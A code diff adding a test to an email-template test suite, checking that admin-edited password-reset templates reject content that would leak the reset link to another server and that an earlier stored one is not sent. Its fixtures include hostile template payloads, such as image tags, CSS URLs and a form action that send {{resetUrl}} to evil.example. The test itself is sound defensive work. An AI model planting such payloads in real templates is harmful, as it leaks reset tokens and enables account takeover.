@@ -17,7 +17,7 @@ import type {
   TestTemplateAnswer,
 } from '../../../libs/contracts/admin/admin-templates.dto.ts';
 import type { ErrorBody } from '../../../libs/contracts/shared/error-codes.ts';
-import { createSignedIn, newAddress } from '../../support/accounts.ts';
+import { createSignedIn, createUser, newAddress } from '../../support/accounts.ts';
 import { type SmtpInbox, startSmtpInbox } from '../../support/smtp-inbox.ts';
 import { startTestApp, type TestApp } from '../../support/test-app.ts';
 import { call } from '../../support/test-client.ts';
@@ -163,6 +163,37 @@ describe('email templates', () => {
     expect((await ask(`PUT ${path}`, { isActive: true })).body).toMatchObject({ message, details: { fields: {} } });
     expect((await ask(`POST ${path}/reset`)).status).toBe(200);
     expect((await ask(`PUT ${path}`, { isActive: true })).status).toBe(200);
+  });
+
+  test('of a mail with a link pass it to no other server', async () => {
+    const { email } = await createUser(running, { role: 'admin' });
+    const before = await find('password_reset');
+    const path = `${TEMPLATES}/${before.id}`;
+    const link = '<a href="{{resetUrl}}">Reset</a>';
+    const hostile = [
+      ['htmlContent', `${link}<img src="https://evil.example/c?{{resetUrl}}">`, /only as text/],
+      ['htmlContent', `${link}<img src="https://evil.example/a.png">`, /must not load images/],
+      ['htmlContent', `${link}<p style="background: url(https://evil.example/)">x</p>`, /must not load anything/],
+      ['htmlContent', `${link}<form action="https://evil.example/"></form>`, /<form> is not allowed/],
+      ['textContent', 'https://evil.example/?{{resetUrl}}', /part of another address/],
+      ['subject', '{{resetUrl}}', /not allowed in the subject/],
+    ] as const;
+    for (const [field, value, message] of hostile) {
+      expect(await ask(`PUT ${path}`, { [field]: value })).toMatchObject({
+        status: 400,
+        body: { code: 'validation_failed', details: { fields: { [field]: expect.stringMatching(message) } } },
+      });
+    }
+    expect(await find('password_reset')).toEqual(before);
+
+    // One that was stored before is not sent.
+    const stored = { subject: '{{resetUrl}}', htmlContent: hostile[0][1] };
+    await running.app.get(Database).write((manager) => manager.update(EmailTemplate, { id: before.id }, stored));
+    await call(running, 'POST /api/auth/forgot-password', { body: { email } });
+    const mail = await inbox.take(email);
+    expect(mail.subject).toBe('Reset your Overprint password');
+    expect(mail.html).not.toContain('evil.example');
+    expect((await ask(`POST ${path}/reset`)).status).toBe(200);
   });
 
   test('of any form are previewed at once', async () => {
